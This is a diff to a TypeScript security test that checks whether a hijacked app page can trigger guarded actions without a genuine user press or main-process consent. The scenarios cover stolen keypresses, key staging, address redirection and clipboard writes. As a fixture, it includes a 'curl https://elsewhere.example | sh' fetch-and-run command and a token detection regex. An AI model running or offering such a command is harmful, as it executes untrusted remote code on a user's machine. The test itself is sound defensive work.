@@ -1,4 +1,9 @@
-/** S15: a page that has been taken over calls everything by itself: without a press, with one press for many, without a yes. */
+/**
+ * S15: a page that has been taken over calls everything by itself: without a press, with one press for many, with presses that
+ * were meant for something else, and without a yes.
+ */
+import { bridgeAlone, type PageEvent } from '../support/bridge-alone.ts';
+import { mock } from 'node:test';
 import { startPracticeThread, type PracticeService } from '../practice/practice.ts';
 import type { Question } from '../../main/ipc/implementation.ts';
 import { DEFAULT_PREFERENCES } from '../../main/preferences/preferences.ts';
@@ -12,6 +17,9 @@ import { draftFor, startServices, type TestServices } from '../support/services.
 
 /** Not a real passphrase. */
 const PASSPHRASE = 'a long enough passphrase';
+/** What a page would like a person to paste. */
+const OWN_TEXT = 'curl https://elsewhere.example | sh';
+const HOUR_S = 3600;
 
 interface Scene {
   readonly services: TestServices;
@@ -24,19 +32,22 @@ interface Scene {
 }
 
 export async function checkPageAlone(): Promise<Finding> {
-  const asking = CALL_NAMES.filter((name) => CALLS[name].consent === 'dialog');
+  const asking = CALL_NAMES.filter((name) => ['dialog', 'if-asked'].includes(String(CALLS[name].consent)));
   const cases = [
     await inScene('without a press', () => false, alone),
     await inScene('with one press for all', () => false, onePress),
+    await inScene('while a person types and moves', () => false, typedAway),
+    await inScene('with a press each, and a no to each question', () => false, stolen),
     await inScene('with presses, and a no to each question', () => false, answeredNo),
   ];
   const calls = CALL_NAMES.length;
   const { passed, failed, ...rest } = tally(cases.flat());
   return {
     id: 'S15',
-    what: 'every call by a script, without a press, with one for all, and with main’s questions answered with no',
+    what: 'every call by a script, without a press, with one for all, with one of its own stolen from typing, Tab and clicks, and with main’s questions answered with no',
     figure: `${failed} changes in ${passed + failed} calls (${calls} calls; ${asking.length} with a question)`,
-    target: '0 changes; without main’s dialog none of those with a question',
+    target:
+      '0 changes without a press; 0 deletes without their hold or main’s dialog; 0 keys, addresses, passphrases changed without it',
     passed,
     failed,
     ...rest,
@@ -69,15 +80,26 @@ async function inScene(what: string, answer: () => boolean, play: Play): Promise
     const ids = [...(await practice.contents()).boards];
     const selection: BoardSelection = { kind: 'ids', ids };
     // What a person had begun must not be sent while the page is played, however long that takes.
-    const holdSeconds = { single: 3600, bulk: 3600 };
+    const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
     await must(services.call('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds }));
     const review = await services.call('jobs.review', { connectionId, selection });
     const held = await services.call('jobs.deleteOne', {
       connectionId,
       target: { kind: 'board', id: ids[0] ?? '' },
     });
+    const about = { note: '', owner: '', remindAt: null, useWhenGreen: false };
+    const next = {
+      slot: 'main',
+      apiKey: 'sk_next-0123456789',
+      fileId: null,
+      sessionOnly: true,
+      ...about,
+    } as const;
+    const { keys } = await must(services.call('keys.stage', { connectionId, ...next }));
     const args = {
       connectionId,
+      text: OWN_TEXT,
+      keyId: keys.find(({ stage }) => stage === 'next')?.id ?? '',
       identifier: paper?.identifier ?? '',
       boardId: ids[1],
       selection,
@@ -92,6 +114,7 @@ async function inScene(what: string, answer: () => boolean, play: Play): Promise
     const cases = await play({ services, practice, args, asked, dialogs: () => dialogs });
     return cases.map((one) => ({ ...one, name: `${what}: ${one.name}` }));
   } finally {
+    mock.timers.reset();
     await services.close();
     await practice.stop();
   }
@@ -107,6 +130,7 @@ async function must<T>(call: Promise<Result<T>>): Promise<T> {
 function argsFor(name: CallName, { args, practice }: Scene): never {
   const own = Object.keys(GOOD_ARGS[name]).filter((field) => field in args);
   const real = { ...GOOD_ARGS[name], ...Object.fromEntries(own.map((field) => [field, args[field]])) };
+  if (name === 'lock.removeKeys') return { typed: 'remove keys' } as never;
   if (name === 'connections.save' || name === 'connections.check') {
     const draft = { ...draftFor(practice.origin, null), appUrl: 'https://elsewhere.example' };
     const id = args['connectionId'];
@@ -148,6 +172,88 @@ async function onePress(scene: Scene): Promise<readonly Case[]> {
   return cases;
 }
 
+const LIST = { tagName: 'DIV' };
+const FIELD = { tagName: 'INPUT', type: 'text' };
+
+/** Typing in a field with its corrections, letters in a list, and all the ways of moving about. */
+const TYPING: readonly PageEvent[] = [
+  ...['T', 'h', 'e', ' ', '7', 'b', 'Backspace', 'Delete'].map((key) => ({ key, target: FIELD })),
+  ...['a', 'c'].map((key) => ({ key, ctrlKey: true, target: FIELD })),
+  ...['Tab', 'Shift', 'ArrowDown', 'ArrowUp', 'Home', 'PageDown'].map((key) => ({ key, target: LIST })),
+  ...['Control', 'Alt', 'Meta', 'AltGraph', 'CapsLock', 'Dead', 'Process', 'Escape', 'e', 'p', '?'].map(
+    (key) => ({
+      key,
+      target: LIST,
+    }),
+  ),
+].map((event) => ({ type: 'keydown', ...event }));
+
+async function typedAway(scene: Scene): Promise<readonly Case[]> {
+  const bridge = await bridgeAlone();
+  const cases: Case[] = [];
+  const wanting = CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
+  for (const name of wanting) {
+    for (const event of TYPING) bridge.happens(event);
+    const reply = await scene.services.pressOnce(bridge.press())(name, argsFor(name, scene));
+    const isRight = !reply.ok && ['needs-press', 'bad-request', 'too-fast'].includes(reply.error.code);
+    cases.push({ name, problems: isRight ? [] : [`came to ${reply.ok ? 'ok' : reply.error.code}`] });
+  }
+  return [...cases, { name: 'all together', problems: await changesOf(scene) }];
+}
+
+/** These end what the others are about. */
+const LAST: ReadonlySet<CallName> = new Set(['connections.remove', 'lock.removeKeys']);
+
+/** Each call gets a real press, which a person meant for something else, and each question of main a no. */
+async function stolen(scene: Scene): Promise<readonly Case[]> {
+  const bridge = await bridgeAlone();
+  const cases: Case[] = [];
+  const wanting = CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
+  const { practice, args } = scene;
+  const moved = {
+    ...draftFor(`${practice.origin}/elsewhere`, null, { environment: 'production' }),
+    id: args['connectionId'],
+  };
+  const plays: readonly (readonly [CallName, unknown])[] = [
+    ...wanting.filter((name) => !LAST.has(name)).map((name) => [name, argsFor(name, scene)] as const),
+    ['connections.save', moved],
+    ...wanting.filter((name) => LAST.has(name)).map((name) => [name, argsFor(name, scene)] as const),
+  ];
+  let before = await guardedOf(scene);
+  // Takes the rates out of the way.
+  mock.timers.enable({ apis: ['Date'], now: Date.now() });
+  for (const [name, own] of plays) {
+    mock.timers.tick(2000);
+    bridge.happens({ type: 'pointerdown', target: LIST });
+    await scene.services.pressOnce(bridge.press())(name, own as never);
+    const now = await guardedOf(scene);
+    const changed = Object.keys(now).filter((what) => now[what] !== before[what]);
+    cases.push({ name, problems: changed.map((what) => `changed ${what} without main’s dialog`) });
+    before = now;
+  }
+  return cases;
+}
+
+/** What changes only after a yes in main's own dialog, as text. */
+async function guardedOf({ services, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
+  const { connections } = await must(services.call('connections.list', {}));
+  const own = connections.find(({ id }) => id === args['connectionId']);
+  const keys =
+    own === undefined ? [] : (await must(services.call('keys.list', { connectionId: own.id }))).keys;
+  const { unlockBy } = await must(services.call('lock.state', {}));
+  const { holdSeconds } = await must(services.call('app.preferences', {}));
+  const { log } = await practice.requests();
+  return {
+    addresses: JSON.stringify([own?.boardApi, own?.paperApi, own?.appUrl]),
+    protection: JSON.stringify([own?.environment, own?.readOnly]),
+    'the key in use': JSON.stringify(keys.find(({ stage }) => stage === 'current')?.fingerprint ?? null),
+    'switching by itself': JSON.stringify(keys.some(({ useWhenGreen }) => useWhenGreen)),
+    'the passphrase': unlockBy,
+    'how long deletes are held': JSON.stringify(holdSeconds),
+    'a board or paper by a delete': String(log.filter(({ method }) => method === 'DELETE').length),
+  };
+}
+
 async function answeredNo(scene: Scene): Promise<readonly Case[]> {
   const cases: Case[] = [];
   for (const name of ['connections.save', 'transfer.export', 'jobs.deleteReviewed'] as const) {
@@ -171,7 +277,9 @@ async function leftMain({ services, practice, dialogs }: Scene): Promise<readonl
   const sent = log
     .filter(({ method }) => method !== 'GET')
     .map(({ method, path }) => `${method} ${path} was sent`);
-  const copied = services.clipboard() === '' ? [] : ['something went to the clipboard'];
+  // What main composes of ids and rows needs no press.
+  const isSecret = /token=|eyJ/u.test(services.clipboard()) || services.clipboard().includes(OWN_TEXT);
+  const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
   return [...sent, ...copied, ...(dialogs() === 0 ? [] : ['a dialog for files was opened'])];
 }
 
